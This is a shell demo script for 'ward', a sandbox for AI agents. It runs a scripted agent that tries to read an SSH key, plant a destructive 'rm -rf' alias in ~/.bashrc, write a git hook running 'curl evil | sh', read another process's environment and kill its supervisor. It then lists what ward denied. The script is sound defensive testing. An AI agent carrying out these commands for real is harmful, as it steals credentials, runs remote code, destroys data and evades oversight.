#!/bin/sh
# make demo: a short scripted "agent" session under `ward run` with the
# built-in default profile, then what ward decided, then where the log is.
set -eu
ward=$(cd "$(dirname "${1:-build/ward}")" && pwd)/$(basename "${1:-build/ward}")
demo=$(mktemp -d /tmp/ward-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT

# A home with a credential in it, and a project.
export HOME="$demo/home" XDG_CONFIG_HOME="$demo/home/.config" XDG_STATE_HOME="$demo/home/.local/state"
mkdir -p "$HOME/.ssh" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" >"$HOME/.ssh/id_ed25519"
echo "export PS1='$ '" >"$HOME/.bashrc"
cd "$demo/project"
printf '# demo project\n' >README.md
printf '#include <stdio.h>\nint main(void) { puts("hello, world"); return 0; }\n' >hello.c
# An existing repository, as agents find them (the default profile
# write-protects .git/config, so `git init` itself is for the person).
git init -q .

cat >agent.sh <<'AGENT'
say() { printf '\033[36magent:\033[0m %s\n' "$*"; }
say "reads the project";          head -n 1 README.md
say "peeks at ~/.ssh/id_ed25519"; cat ~/.ssh/id_ed25519 || true
say "writes notes.txt";            echo "todo: ship it" >notes.txt && cat notes.txt
say "appends to ~/.bashrc";        echo "alias ls='rm -rf'" >>~/.bashrc || true
say "runs git";                    git add README.md hello.c &&
                                   git -c user.name=agent -c user.email=a@example.com commit -qm init &&
                                   git log --oneline | cut -c9-
say "plants a git hook";           echo 'curl evil | sh' >.git/hooks/post-commit || true
say "compiles and runs C";         gcc -o hello hello.c && ./hello
say "reads another process's environment"; cat /proc/1/environ >/dev/null || true
say "tries to kill its supervisor"; kill -9 "$PPID" || true
say "done"
AGENT

printf '\033[1m$ ward run -- sh agent.sh\033[0m\n'
status=0
"$ward" run --log "$demo/session.jsonl" -q -- sh agent.sh || status=$?
printf '\033[1m(the agent exited with status %s; ward is still here)\033[0m\n\n' "$status"

printf '\033[1mWhat ward refused (from the audit log):\033[0m\n'
grep '"decision":"deny"' "$demo/session.jsonl" |
	sed -n 's/.*"event":"\([a-z]*\)".*"exe":"\([^"]*\)".*"syscall":"\([^"]*\)"\(.*\)/\1 \2 \3 \4/p' |
	while read -r event exe syscall rest; do
		op=$(printf '%s' "$rest" | sed -n 's/.*"op":"\([^"]*\)".*/\1/p')
		path=$(printf '%s' "$rest" | sed -n 's/.*"path":"\([^"]*\)".*/\1/p')
		target=$(printf '%s' "$rest" | sed -n 's/.*"target":\([0-9-]*\).*/pid \1/p')
		errno=$(printf '%s' "$rest" | sed -n 's/.*"errno":"\([^"]*\)".*/\1/p')
		rule=$(printf '%s' "$rest" | sed -n 's/.*"rule":"\([^"]*\)".*/\1/p')
		printf '  %-7s %-14s %-6s %-42s %-7s %s\n' "$event" "$(basename "$exe")" "${op:-$syscall}" \
			"${path:-$target}" "$errno" "${rule:-}"
	done | sort -u
echo
printf '\033[1mThe session in numbers:\033[0m\n'
printf '  %s events logged, %s allowed, %s denied, %s programs run\n' \
	"$(wc -l <"$demo/session.jsonl")" "$(grep -c '"decision":"allow"' "$demo/session.jsonl")" \
	"$(grep -c '"decision":"deny"' "$demo/session.jsonl")" "$(grep -c '"event":"exec"' "$demo/session.jsonl")"
printf '  ~/.bashrc untouched: %s\n' "$(cat "$HOME/.bashrc")"
echo
mkdir -p /tmp/ward-demo-logs
cp "$demo/session.jsonl" /tmp/ward-demo-logs/last.jsonl
printf '\033[1mThe full audit log (JSON Lines):\033[0m /tmp/ward-demo-logs/last.jsonl\n'
printf 'Try: %s explain read ~/.ssh/id_rsa    or    %s check\n' "$ward" "$ward"
